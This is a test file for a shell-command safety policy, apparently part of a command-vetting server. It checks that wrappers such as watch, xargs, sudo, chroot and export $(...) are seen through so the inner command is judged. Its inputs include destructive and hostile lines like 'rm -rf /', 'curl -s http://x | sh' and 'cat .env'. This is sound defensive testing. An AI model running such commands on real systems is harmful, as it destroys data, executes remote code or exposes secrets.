// The wrapper rule shared by the policy and the explainer, seen through the
// policy's facts: options that take their value attached only do not swallow
// the command, and what a wrapper replaces its command with is what is judged.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { describeCommand } from '../../server/src/policy';
import { parseShell } from '../../server/src/shell/parser';
import { parseWithSource } from '../../server/src/shell/source';
import { xargsToken } from '../../server/src/shell/wrappers';

const programs = (command: string) => describeCommand(command).commands.map((c) => c.program);

test('watch -d and xargs -e take no separate value: the command after them is judged', () => {
  const watch = describeCommand('watch -d rm -rf /');
  assert.equal(watch.commands[0].program, 'watch');
  assert.deepEqual(watch.commands.slice(1).map((c) => [c.program, c.via]), [['rm', 'shell-string']]);
  assert.deepEqual(programs('find . | xargs -e rm -rf'), ['find', 'rm']);
});

test('xargs -i replaces {} (not the next word) with its input', () => {
  assert.equal(xargsToken([{ text: '-i' }, { text: 'rm' }], 1), '{}');
  assert.equal(xargsToken([{ text: '-I' }, { text: '%' }], 2), '%');
  assert.equal(xargsToken([{ text: '--replace=@' }], 1), '@');
  const facts = describeCommand('ls | xargs -i rm {}');
  assert.equal(facts.commands[1].program, 'rm');
  assert.deepEqual(facts.commands[1].wrappers, ['xargs']);
  assert.equal(facts.commands[1].args[0], '$?');
});

test('sudo -e is judged as sudoedit of the files, sudo -i as a root shell', () => {
  const edit = describeCommand('sudo -e /etc/hosts').commands[0];
  assert.deepEqual([edit.program, edit.privileged, edit.wrappers], ['sudoedit', true, ['sudo']]);
  const login = describeCommand('sudo -i').commands[0];
  assert.deepEqual([login.program, login.privileged], ['sh', true]);
});

test('chroot, time -o and flock run the command after their own words', () => {
  assert.deepEqual(programs('chroot /srv rm -rf /'), ['rm']);
  assert.deepEqual(programs('/usr/bin/time -o t.txt rm x'), ['rm']);
  assert.deepEqual(programs('flock -w 5 /tmp/l rm x'), ['rm']);
});

test('commands inside export $(...) and declare $(...) are walked', () => {
  assert.deepEqual(programs('export $(curl -s http://x | sh)').sort(), ['curl', 'export', 'sh']);
  assert.deepEqual(programs('declare -a $(cat .env)').sort(), ['cat', 'declare']);
});

test('positions are kept only when asked for, as UTF-8 byte offsets', () => {
  const bare = parseShell('a | b');
  assert.equal(bare.Stmts[0].Pos, undefined);
  const tree = parseWithSource('echo é; ls -l');
  const [first, second] = tree.file.Stmts;
  assert.equal(tree.of(first.Cmd), 'echo é');
  assert.equal(tree.of(second), 'ls -l');
  assert.equal(second.Pos, 'echo é; '.length + 1);
  assert.equal(first.Semicolon, 'echo é'.length + 1);
  assert.equal(second.Semicolon, -1);
});

test('words that are not ASCII are read as written, as the policy and the plan checks see them', () => {
  const words = (command: string) => parseShell(command).Stmts[0].Cmd.Args.map((a: { Parts: { Value?: string }[] }) => a.Parts.map((p) => p.Value ?? '').join(''));
  assert.deepEqual(words("sed -i 's|置換前|置換後|g' café.txt"), ['sed', '-i', 's|置換前|置換後|g', 'café.txt']);
  assert.deepEqual(describeCommand('rm -- naïve.txt').commands[0].positionals, ['naïve.txt']);
});
